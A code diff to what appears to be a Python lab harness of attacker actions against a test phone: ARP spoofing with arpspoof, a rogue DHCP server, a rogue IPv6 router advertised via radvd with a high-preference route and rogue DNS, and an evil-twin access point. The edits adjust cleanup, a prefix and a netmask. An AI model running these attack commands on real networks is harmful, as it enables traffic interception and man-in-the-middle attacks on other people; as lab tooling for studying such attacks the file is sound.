@@ -1,6 +1,7 @@
 """Attacks on the link: ARP, ICMP redirects, DHCP, router advertisements, and a twin of the access point."""
 
 import contextlib
+import signal
 
 from .. import addresses as at
 from .. import phone, services
@@ -19,6 +20,9 @@ def arp_spoof(lab: Lab, place: Place, *, hide_ttl: bool = False):
     with hidden, lab.running(place, "arpspoof", "arpspoof", "-i", "wlan0", "-r", "-t", at.PHONE, at.GATEWAY) as daemon:
         daemon.wait_until(lambda: at.ATTACKER_MAC in neighbour(lab, at.GATEWAY), "the phone's changed neighbour")
         yield
+        daemon.send(signal.SIGTERM)  # it tells the neighbours the truth again, for ten seconds; the first word is enough
+        daemon.wait_until(lambda: at.GATEWAY_MAC in neighbour(lab, at.GATEWAY), "the phone's true neighbour")
+        daemon.send(signal.SIGKILL)
 
 
 @verb("attacker")
@@ -51,13 +55,11 @@ def rogue_dhcp(lab: Lab, place: Place, *, forge: str = ""):
 def rogue_router(lab: Lab, place: Place):
     """Advertises the attacker as an IPv6 router of high preference, with radvd."""
     config = "interface wlan0 { AdvSendAdvert on; AdvDefaultPreference high; MinRtrAdvInterval 3; MaxRtrAdvInterval 4;"
-    config += " prefix fd66:bad::/64 {}; RDNSS fd77::66 {}; };"
+    config += " prefix fd77::/64 {}; RDNSS fd77::66 {}; };"
     file = lab.write("radvd.conf", config + "\n")
     with lab.running(place, "radvd", "radvd", "-C", file, "-n", "-m", "stderr", "-p", lab.path("radvd.pid")) as daemon:
         daemon.wait_until(lambda: "pref high" in lab.phone.run("ip -6 route show default").stdout, "the rogue router at the phone")
-        yield
-    # radvd withdraws its route as it ends; the address of its prefix would stay for a day
-    lab.phone.ip("addr flush dev wlan0 to fd66:bad::/64")
+        yield  # radvd withdraws its route as it ends
 
 
 @verb("attacker")
@@ -71,7 +73,7 @@ def evil_twin(lab: Lab, place: Place):
     twin.ip(
         "link set lo up",
         f"addr add {at.GATEWAY}/24 dev lan0",
-        f"addr add {at.TWIN_EXIT}/24 dev wan0",
+        f"addr add {at.TWIN_EXIT}/28 dev wan0",
         f"route add default via {at.TWIN_UPLINK}",
     )
     twin.sysctl(ipv4__ip_forward=1)
